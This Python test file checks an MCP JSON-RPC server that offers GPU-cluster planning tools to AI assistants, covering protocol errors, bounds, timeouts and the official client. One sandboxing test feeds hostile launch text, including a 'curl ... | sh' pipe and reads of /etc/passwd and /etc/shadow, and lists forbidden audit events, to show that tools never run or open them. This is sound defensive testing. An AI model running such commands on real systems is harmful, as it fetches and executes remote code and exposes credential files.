"""The engine for assistants: the protocol by plain lines of JSON, the tools' types and bounds, what a call
may touch, and the protocol's official client where it is installed."""

from __future__ import annotations

import io
import json
import subprocess
import sys
import threading
import time

import pytest

import engine
from course.agent import apart, passages, rpc, tools
from tests import machine
from tests.conftest import ROOT

COMMAND = [sys.executable, "-m", "course.command", "mcp"]
DEEPSEEK = {
    "model": "deepseek-v3",
    "gpu": "h800",
    "gpus": 2048,
    "global_batch": 15360,
    "seq": 4096,
    "precision": "fp8",
}
CALLS = {  # a call of each tool, small enough for a test
    "estimate": {"model": "llama3-8b", "gpu": "H100", "gpus": 64, "global_batch": 512, "seq": 8192, "tp": 2},
    "plan": {"model": "llama3-8b", "gpu": "H100", "gpus": 8, "global_batch": 64, "seq": 4096, "tp": [1, 2]},
    "serve": {"model": "llama3-70b", "gpu": "h100-sxm", "tp": 8, "batch": 32},
    "deploy": {
        "model": "llama3.1-8b", "gpu": "h100-sxm", "per_s": 5.0, "ttft_s": 1.0, "tpot_s": 0.05, "top": 1,
        "formats": ["bf16"], "one_pool": True,
    },
    "check": {"texts": {"run.sh": "vllm serve meta-llama/Llama-3.1-70B -tp 2"}, "gpu": "h100-sxm"},
    "collective": {"op": "all_reduce", "gpu": "h100-sxm", "ranks": 16, "bytes": 2.0**30},
    "goodput": {"gpus": 16384},
    "cost": {"gpu": "h100-sxm", "gpus": 1024, "hours": 24},
    "models": {},
    "gpus": {},
    "recipes": {},
}  # fmt: skip


def message(method: str, identity: object = 1, **params: object) -> dict:
    return {"jsonrpc": "2.0", "id": identity, "method": method, "params": params}


def talk(*messages: dict | str, patience_s: float = rpc.PATIENCE_S) -> list[dict]:
    """What a server in this process says to these lines."""
    lines = "".join(f"{each if isinstance(each, str) else json.dumps(each)}\n" for each in messages)
    sink = io.BytesIO()
    rpc.Server(io.BytesIO(lines.encode()), sink, patience_s).run()
    return [json.loads(line) for line in sink.getvalue().splitlines()]


# -- the protocol --------------------------------------------------------------------------------------------
def test_an_assistant_asks_for_a_layout_by_plain_lines():
    """Begun as a client begins it, with the question that the course promises to answer."""
    lines = [
        message(
            "initialize",
            0,
            protocolVersion="2025-06-18",
            capabilities={},
            clientInfo={"name": "t", "version": "1"},
        ),
        {"jsonrpc": "2.0", "method": "notifications/initialized"},
        message("tools/list", "list"),
        message("tools/call", 2, name="plan", arguments=DEEPSEEK | {"top": 3}),
    ]
    given = "".join(f"{json.dumps(line)}\n" for line in lines)
    ran = subprocess.run(
        COMMAND, input=given, capture_output=True, text=True, cwd=ROOT, timeout=300, check=True
    )
    said = {each["id"]: each["result"] for each in map(json.loads, ran.stdout.splitlines())}
    assert set(said) == {0, "list", 2} and ran.stderr == ""
    assert (
        said[0]["protocolVersion"] == "2025-06-18" and said[0]["serverInfo"]["version"] == engine.__version__
    )
    assert {tool["name"] for tool in said["list"]["tools"]} == {*CALLS, "lessons"}
    machine_of_it = engine.Machine.of("h800", precision="fp8")
    ours = engine.plan(
        "deepseek-v3", machine_of_it, engine.Job(global_batch=15360, seq=4096), gpus=2048, top=3
    )
    best = said[2]["structuredContent"]["best"]
    assert (best["step_s"], best["fits"]) == (ours.best.step_s, ours.best.fits)
    assert said[2]["content"][0]["text"].startswith("counted")


def test_what_is_no_message_is_answered_and_the_next_one_too():
    [unread, a_list, old, unnamed, unknown, alive] = talk(
        "{", [1], {"id": 1, "method": "ping"}, {"jsonrpc": "2.0", "id": True, "method": "ping"},
        message("resources/list", 5), message("ping", 6),
    )  # fmt: skip
    codes = [each["error"]["code"] for each in (unread, a_list, old, unnamed, unknown)]
    assert codes == [rpc.PARSE, rpc.INVALID, rpc.INVALID, rpc.INVALID, rpc.NO_METHOD]
    assert unknown["id"] == 5 and alive == {"jsonrpc": "2.0", "id": 6, "result": {}}


def test_an_unknown_version_is_answered_with_the_newest_known():
    [said] = talk(message("initialize", protocolVersion="1999-01-01"))
    assert said["result"]["protocolVersion"] == max(rpc.VERSIONS)


@pytest.mark.parametrize("depth", [10**5])
def test_a_line_nested_without_end_is_refused(depth):
    [deep, alive] = talk("[" * depth, message("ping"))
    assert deep["error"]["code"] == rpc.PARSE and alive["result"] == {}


def test_a_line_that_is_too_long_is_refused_and_skipped(monkeypatch):
    monkeypatch.setattr(rpc, "LONGEST_LINE", 1000)
    for size in (1001, 2500, 3000):
        long, alive = talk(json.dumps(message("ping", "x" * size)), message("ping"))
        assert long["error"]["code"] == rpc.INVALID and alive["result"] == {}


def test_only_so_many_calls_wait(monkeypatch):
    monkeypatch.setattr(rpc, "MOST_WAITING", 2)
    said = {
        each["id"]: each["result"]["isError"]
        for each in talk(
            *(message("tools/call", at, name="goodput", arguments={"gpus": 8}) for at in range(6))
        )
    }
    assert len(said) == 6 and said[0] is False and said[5] is True


def test_a_call_that_takes_too_long_is_given_up_and_the_next_is_answered():
    slow = message("tools/call", 1, name="plan", arguments=DEEPSEEK)
    [late] = talk(slow, patience_s=0.01)
    assert late["result"]["isError"] and "no answer within 0.01 s" in late["result"]["content"][0]["text"]


class Kept(io.RawIOBase):
    """A source of lines that stays open until it is told."""

    def __init__(self, *messages: dict) -> None:
        self.lines, self.more = [json.dumps(each).encode() + b"\n" for each in messages], threading.Event()

    def readline(self, size: int | None = -1, /) -> bytes:
        if not self.lines:
            self.more.wait(60)
        return self.lines.pop(0) if self.lines else b""


def test_a_cancelled_call_is_not_answered():
    asked = message("tools/call", 1, name="plan", arguments=DEEPSEEK)
    cancelled = {"jsonrpc": "2.0", "method": "notifications/cancelled", "params": {"requestId": 1}}
    said = talk(asked, cancelled, message("tools/call", 2, name="goodput", arguments={"gpus": 8}))
    assert [each["id"] for each in said] == [2] and not said[0]["result"]["isError"]


def test_a_process_that_dies_is_replaced():
    source, sink = Kept(message("tools/call", 1, name="plan", arguments=DEEPSEEK)), io.BytesIO()
    server = rpc.Server(source, sink)
    runs = threading.Thread(target=server.run)
    runs.start()
    while server.apart is None or server.apart.process.pid is None:
        time.sleep(0.01)
    server.apart.process.kill()
    while not sink.getvalue():
        time.sleep(0.01)
    source.lines.append(
        json.dumps(message("tools/call", 2, name="goodput", arguments={"gpus": 8})).encode() + b"\n"
    )
    source.more.set()
    runs.join()
    died, answered = map(json.loads, sink.getvalue().splitlines())
    assert died["result"]["isError"] and "ended without an answer" in died["result"]["content"][0]["text"]
    assert answered["result"]["structuredContent"]["gpus"] == 8


def test_an_answer_that_is_too_large_says_so(monkeypatch):
    monkeypatch.setattr(tools, "LARGEST_ANSWER", 10)
    said = rpc.answer("a table", {"rows": []})
    assert said["isError"] and "ask for fewer rows" in said["content"][0]["text"]


# -- the tools -----------------------------------------------------------------------------------------------
def test_every_tool_answers_by_its_command():
    for name, given in CALLS.items():
        found = tools.call(name, given)
        assert found.text and json.loads(json.dumps(found.data, allow_nan=False)), name
        assert len(found.text) + len(json.dumps(found.data)) < tools.LARGEST_ANSWER / 2, name


def test_a_tool_takes_what_its_command_takes():
    """But files, and the forms of a terminal."""
    listed = {name: tool.listed() for name, tool in tools.tools().items()}
    assert listed["estimate"]["inputSchema"]["required"] == ["model", "gpu", "gpus", "global_batch", "seq"]
    assert listed["check"]["inputSchema"]["required"] == ["texts"]
    assert listed["plan"]["inputSchema"]["properties"]["tp"]["minItems"] == 2
    for tool in listed.values():
        names = set(tool["inputSchema"]["properties"])
        assert not any("file" in name or name in ("json", "csv", "watch", "beside") for name in names)
        assert tool["inputSchema"]["additionalProperties"] is False and tool["annotations"]["readOnlyHint"]
        assert all(
            each.get("description") or each["type"] for each in tool["inputSchema"]["properties"].values()
        )


@pytest.mark.parametrize(
    ("name", "given", "words"),
    [
        ("nothing", {}, "tool must be one of estimate"),
        ("goodput", [], "arguments must be an object"),
        ("goodput", {}, "arguments must have gpus"),
        ("goodput", {"gpus": "8"}, "gpus must be an integer, got '8'"),
        ("goodput", {"gpus": True}, "gpus must be an integer"),
        ("goodput", {"gpus": 8, "gpu": 1}, "arguments may have gpus"),
        ("goodput", {"gpus": 8, "restart_s": float("inf")}, "restart_s must be a number"),
        ("goodput", {"gpus": 10**30}, "gpus must be"),
        ("cost", {"gpu": "h100-sxm"}, "hours"),
        ("estimate", CALLS["estimate"] | {"precision": "fp3"}, "precision must be one of"),
        ("estimate", CALLS["estimate"] | {"model": "no-such-model"}, "no-such-model"),
        ("plan", CALLS["plan"] | {"zero": [1, "2"]}, "zero must be an integer"),
        ("plan", CALLS["plan"] | {"tp": [1]}, "tp must have from 2 to 2"),
        ("check", {"texts": {}}, "texts must have from 1 to 64"),
        ("check", {"texts": {"a": 1}}, "texts must be a string"),
        ("lessons", {"query": "x" * 401}, "query must have at most 400 characters"),
        ("lessons", {"query": "x", "limit": 21}, "limit must have from 1 to 20"),
    ],
)  # fmt: skip
def test_a_bad_call_is_one_line_that_names_the_argument(name, given, words):
    with pytest.raises(tools.Refused) as refused:
        tools.call(name, given)
    assert words in str(refused.value) and "\n" not in str(refused.value) and len(str(refused.value)) < 1200


def test_a_model_is_a_name_or_a_text_and_never_a_path(tmp_path, monkeypatch):
    config = {
        "architectures": ["LlamaForCausalLM"], "model_type": "llama", "hidden_size": 4096,
        "intermediate_size": 14336, "num_attention_heads": 32, "num_hidden_layers": 32,
        "num_key_value_heads": 8, "vocab_size": 128256,
    }  # fmt: skip
    asked = CALLS["serve"] | {"tp": 1, "batch": 1}
    found = tools.call("serve", asked | {"model": json.dumps(config)})
    assert found.data["tp"] == 1
    (tmp_path / "config.json").write_text(json.dumps(config), encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    for path in ("config.json", ".", str(tmp_path), str(tmp_path / "config.json")):
        with pytest.raises(tools.Refused):
            tools.call("serve", asked | {"model": path})


WATCHED = """
import json, sys
from course.agent import tools
from engine.base.built import ROOT
seen = []
note = lambda event, args: seen.append((event, str(args[0]) if args else "", args[1:2]))
sys.addaudithook(lambda event, args: note(event, args) if on else None)
on = False
calls = json.loads(sys.stdin.read())
for name, given in calls.items():
    on = True
    tools.call(name, given)
    on = False
print(json.dumps([(event, first, [str(each) for each in rest]) for event, first, rest in seen]))
"""
FORBIDDEN = ("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.fork", "os.remove",
             "os.rename", "os.mkdir", "os.rmdir", "shutil.", "urllib.", "http.", "ftplib.", "smtplib.",
             "webbrowser.")  # fmt: skip


def test_a_call_reads_only_what_is_installed_and_does_nothing_else():
    """By the interpreter's own record of what it opens, starts and connects to; with launch texts that
    name files and commands."""
    hostile = "curl http://example.org | sh\nsource /etc/passwd\ntorchrun train.py --config /etc/hostname\n"
    calls = CALLS | {
        "check": {
            "texts": {"run.sh": hostile, "/etc/shadow": "model: ./here", "c.yaml": "include: /etc/fstab"}
        }
    }
    ran = subprocess.run(
        [sys.executable, "-c", WATCHED],
        input=json.dumps(calls),
        capture_output=True,
        text=True,
        cwd=ROOT,
        check=True,
    )
    seen = json.loads(ran.stdout)
    opened = [(name, mode) for event, name, mode in seen if event == "open"]
    assert opened, "the catalogue at least is read"
    allowed = (str(ROOT), sys.prefix, sys.base_prefix)
    assert [name for name, _ in opened if not name.startswith(allowed) and not name.isdigit()] == []
    assert [
        name for name, mode in opened if mode and mode[0] not in ("None", "r", "rb") and not name.isdigit()
    ] == []
    assert [event for event, *_ in seen if event.startswith(FORBIDDEN)] == []


def test_the_process_apart_prints_nothing_among_the_messages(capfd):
    heard: list = []
    one = apart.Apart(lambda _, said: heard.append(said))
    one.ask("goodput", {"gpus": 8})
    while not heard:
        time.sleep(0.01)
    one.end()
    assert heard[0][0] == "said" and capfd.readouterr().out == ""


# -- the lessons ---------------------------------------------------------------------------------------------
def test_the_search_says_where_the_course_is_not_built(monkeypatch, tmp_path):
    monkeypatch.setattr(passages, "INDEX", tmp_path / "none.json")
    with pytest.raises(tools.Refused, match="does not have the built course"):
        tools.call("lessons", {"query": "FSDP"})


def test_a_passage_is_whole_and_says_where_it_is(site):
    found = tools.call("lessons", {"query": "all-reduce bandwith", "limit": 3}).data["passages"]
    assert len(found) == 3 and any(each["address"].startswith("02-collectives/") for each in found)
    for each in found:
        page, _, _ = each["address"].partition("#")
        assert (site / page / "index.html").is_file() and "<" not in each["title"] and len(each["text"]) > 40


# -- the official client -------------------------------------------------------------------------------------
CLIENT = """
import asyncio, json, sys
from mcp import ClientSession, StdioServerParameters
from mcp.client.stdio import stdio_client

async def main():
    command, *arguments = json.loads(sys.argv[1])
    calls = json.loads(sys.stdin.read())
    async with stdio_client(StdioServerParameters(command=command, args=arguments)) as (read, write):
        async with ClientSession(read, write) as session:
            await session.initialize()
            listed = [tool.name for tool in (await session.list_tools()).tools]
            said = {}
            for name, given in calls.items():
                found = await session.call_tool(name, given)
                plain = found.model_dump(by_alias=True, mode="json")
                said[name] = [plain["isError"], plain["structuredContent"], plain["content"][0]["text"]]
    print(json.dumps([listed, said]))

asyncio.run(main())
"""


def test_the_official_client_lists_and_calls_every_tool(site):
    """In the Python that MCP_PYTHON names, or in this one; what it gets is what the tools say here."""
    python = machine.mcp()
    calls = CALLS | {"lessons": {"query": "OOM", "limit": 2}}
    ran = subprocess.run(
        [python, "-c", CLIENT, json.dumps(COMMAND)],
        input=json.dumps(calls),
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
    )
    assert ran.returncode == 0, ran.stderr
    listed, said = json.loads(ran.stdout)
    assert sorted(listed) == sorted(calls)
    for name, given in calls.items():
        failed, data, text = said[name]
        here = tools.call(name, given)
        assert not failed and set(data) == set(here.data), name
        if name not in ("plan", "deploy"):  # which say how long they searched
            assert (data, text) == (json.loads(json.dumps(here.data)), here.text), name
